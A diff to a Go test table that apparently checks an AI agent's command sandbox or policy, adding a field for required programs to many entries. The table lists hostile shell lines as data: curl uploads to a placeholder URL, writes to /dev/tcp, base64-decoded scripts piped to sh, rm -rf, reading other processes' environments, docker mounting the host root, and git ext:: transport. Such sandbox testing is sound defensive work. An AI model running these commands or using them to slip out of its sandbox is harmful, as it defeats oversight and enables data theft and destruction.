@@ -20,6 +20,8 @@ type attack struct {
 	// tame says why the line has no effect that could be seen where nothing
 	// holds it, or why it is not tried there.
 	tame string
+	// needs is a program without which the line has no effect anywhere.
+	needs string
 }
 
 // attacks is one table for both: each line is run with the policy off, and
@@ -27,20 +29,20 @@ type attack struct {
 func attacks() []attack {
 	return []attack{
 		// Structure and parsing
-		{id: "T1", name: "behind a harmless head", line: `ls && curl -s {{URL}}/p`},
-		{id: "T2", name: "after sixty commands", line: strings.Repeat("true && ", 60) + `curl -s {{URL}}/x`},
-		{id: "T2", name: "after five thousand commands", line: strings.Repeat("true;", 5000) + ` curl -s {{URL}}/x`},
+		{id: "T1", name: "behind a harmless head", line: `ls && curl -s {{URL}}/p`, needs: "curl"},
+		{id: "T2", name: "after sixty commands", line: strings.Repeat("true && ", 60) + `curl -s {{URL}}/x`, needs: "curl"},
+		{id: "T2", name: "after five thousand commands", line: strings.Repeat("true;", 5000) + ` curl -s {{URL}}/x`, needs: "curl"},
 		{id: "T3", name: "in a block", line: `if true; then rm -rf {{OUT}}/dir; fi`},
 		{id: "T3", name: "in a function", line: `f() { rm -rf {{OUT}}/dir; }; f`},
-		{id: "T4", name: "brace expansion", line: `{curl,-s,{{URL}}}`},
+		{id: "T4", name: "brace expansion", line: `{curl,-s,{{URL}}}`, needs: "curl"},
 		{id: "T5", name: "subscript", line: `test -v 'a[$(echo x > {{OUT}}/subscript)]'`},
 		{id: "T6", name: "carriage return", line: "ls\r\nrm -f {{OUT}}/secret.txt\n", denied: true},
 		{id: "T7", name: "alias", line: "shopt -s expand_aliases\nalias ls='rm -rf {{OUT}}'\nls"},
 		// Programs within programs
 		{id: "T8", name: "find -exec", line: `find {{OUT}} -name '*.txt' -exec rm {} +`},
 		{id: "T8", name: "find -delete", line: `find {{OUT}} -name '*.txt' -delete`},
-		{id: "T9", name: "preprocessor", line: `rg --pre {{WS}}/x.sh foo`},
-		{id: "T10", name: "file name as a flag", line: `cd flags && rg foo *`},
+		{id: "T9", name: "preprocessor", line: `rg --pre {{WS}}/x.sh foo`, needs: "rg"},
+		{id: "T10", name: "file name as a flag", line: `cd flags && rg foo *`, needs: "rg"},
 		{id: "T11", name: "sed that executes", line: `sed '1e echo x > {{OUT}}/sed' a.txt`},
 		{id: "T11", name: "awk that executes", line: `awk 'BEGIN{system("echo x > {{OUT}}/awk")}'`},
 		{id: "T12", name: "a read tool that writes", line: `uniq a.txt {{OUT}}/uniq`},
@@ -71,24 +73,24 @@ func attacks() []attack {
 		{id: "T28", name: "another directory", line: `touch made`, cwd: "/", denied: true, tame: "the tool refuses the directory"},
 		{id: "T28", name: "the directory above", line: `touch out/made`, cwd: "..", denied: true, tame: "the tool refuses the directory"},
 		// Ways out
-		{id: "T29", name: "upload", line: `curl -s -F f=@a.txt {{URL}}/up`},
+		{id: "T29", name: "upload", line: `curl -s -F f=@a.txt {{URL}}/up`, needs: "curl"},
 		{id: "T29", name: "bash's own sockets", line: `echo x > /dev/tcp/{{ADDR}}`},
 		{id: "T30", name: "a packet", line: `echo x > /dev/udp/{{UDP}}`},
 		{id: "T30", name: "name lookup", line: `getent hosts secret.berth.invalid`, tame: "the name server is not ours to watch"},
-		{id: "T31", name: "in a build", line: `make -s -f evil.mk`},
-		{id: "T32", name: "socket of a daemon", line: `curl -s --unix-socket {{SOCK}} http://d/containers/json`},
+		{id: "T31", name: "in a build", line: `make -s -f evil.mk`, needs: "make"},
+		{id: "T32", name: "socket of a daemon", line: `curl -s --unix-socket {{SOCK}} http://d/containers/json`, needs: "curl"},
 		{id: "T32", name: "container that mounts all", line: `docker -H unix://{{SOCK}} run -v /:/h alpine ls /h`, denied: true, tame: "needs a container tool"},
-		{id: "T32", name: "key agent", line: `SSH_AUTH_SOCK={{SOCK}} timeout 2 ssh-add -l`},
-		{id: "T33", name: "abstract socket", line: `curl -s --abstract-unix-socket {{ABSTRACT}} http://x/`},
+		{id: "T32", name: "key agent", line: `SSH_AUTH_SOCK={{SOCK}} timeout 2 ssh-add -l`, needs: "ssh-add"},
+		{id: "T33", name: "abstract socket", line: `curl -s --abstract-unix-socket {{ABSTRACT}} http://x/`, needs: "curl"},
 		// The agent and other processes
 		{id: "T34", name: "another process's environment", line: `cat /proc/{{PID}}/environ`, denied: true},
 		{id: "T34", name: "the same, hidden", line: `p=proc; cat /$p/{{PID}}/environ | base64`},
 		{id: "T34", name: "the parent's environment", line: `cat /proc/$PPID/environ`, denied: true, tame: "a helper's environment is as clean as the command's"},
-		{id: "T34", name: "debugger", line: `perl -e 'syscall(101, 16, {{PID}}, 0, 0) == 0 and print "OPEN!"'`},
+		{id: "T34", name: "another process's descriptors", line: `p=proc; ls /$p/{{PID}}/fd/ && echo OPEN!`},
 		{id: "T34", name: "kill", line: `kill -9 {{PID}}`},
 		{id: "T35", name: "inherited descriptors", line: `for f in 3 4 5 6 7 8 9; do cat <&$f && echo OPEN!; done`, tame: "nothing inherits where we start it"},
 		{id: "T36", name: "typing into the terminal", line: `perl -e 'open T, "<", "/dev/tty" and print "OPEN!"; ioctl(STDIN, 0x5412, "x") and print "OPEN!"'`, denied: true, tame: "the tests have no terminal"},
-		{id: "T37", name: "user namespace", line: `unshare -Ur true && echo OPEN!`, denied: true},
+		{id: "T37", name: "user namespace", line: `unshare -Ur true && echo OPEN!`, denied: true, tame: "some systems refuse it"},
 		{id: "T37", name: "mount", line: `mount -t tmpfs none {{WS}}/sub && echo OPEN!`, denied: true, tame: "is not tried on the machine"},
 		{id: "T37", name: "io_uring", line: `perl -e '$p = "\0" x 120; syscall(425, 1, $p) >= 0 and print "OPEN!"'`, tame: "some kernels have it off"},
 		{id: "T37", name: "keyring", line: `perl -e 'syscall(250, 0, -3, 0) != -1 and print "OPEN!"'`, tame: "some kernels have it off"},
@@ -96,9 +98,9 @@ func attacks() []attack {
 		{id: "T38", name: "times outside", line: `touch -d 2001-01-01 {{OUT}}/secret.txt`},
 		{id: "T43", name: "disk", line: `fallocate -l 1M {{OUT}}/big`},
 		{id: "T46", name: "another process's output", line: `echo x > /proc/{{PID}}/fd/1`, denied: true},
-		{id: "T48", name: "padding", line: "ls" + strings.Repeat(" ", 4000) + "; curl -s {{URL}}"},
+		{id: "T48", name: "padding", line: "ls" + strings.Repeat(" ", 4000) + "; curl -s {{URL}}", needs: "curl"},
 		{id: "T54", name: "transport that runs programs", line: `git -c protocol.ext.allow=always clone 'ext::{{WS}}/x.sh' c`},
-		{id: "T55", name: "build file", line: `make -s -f evil.mk all`},
+		{id: "T55", name: "build file", line: `make -s -f evil.mk all`, needs: "make"},
 		{id: "T57", name: "environment", line: `printenv`, reads: "the environment of commands holds no secret", tame: "there is nothing in it"},
 		// Files
 		{id: "files", name: "read outside", line: `cat {{OUT}}/secret.txt`},
@@ -118,7 +120,7 @@ func attacks() []attack {
 		// Interpreters and wrappers
 		{id: "R2", name: "encoded script", line: `echo {{B64}} | base64 -d | sh`},
 		{id: "R2", name: "eval", line: `eval "$(printf 'echo x > %s' {{OUT}}/eval)"`},
-		{id: "R2", name: "interpreter", line: `perl -e 'open F, ">", "{{OUT}}/perl"; print F 1'`},
+		{id: "R2", name: "interpreter", line: `perl -e 'open F, ">", "{{OUT}}/perl"; print F 1'`, needs: "perl"},
 		{id: "R2", name: "wrapper", line: `timeout 5 nice env -i sh -c 'echo x > {{OUT}}/wrapped'`},
 		{id: "R2", name: "xargs", line: `echo {{OUT}}/secret.txt | xargs rm -f`},
 	}
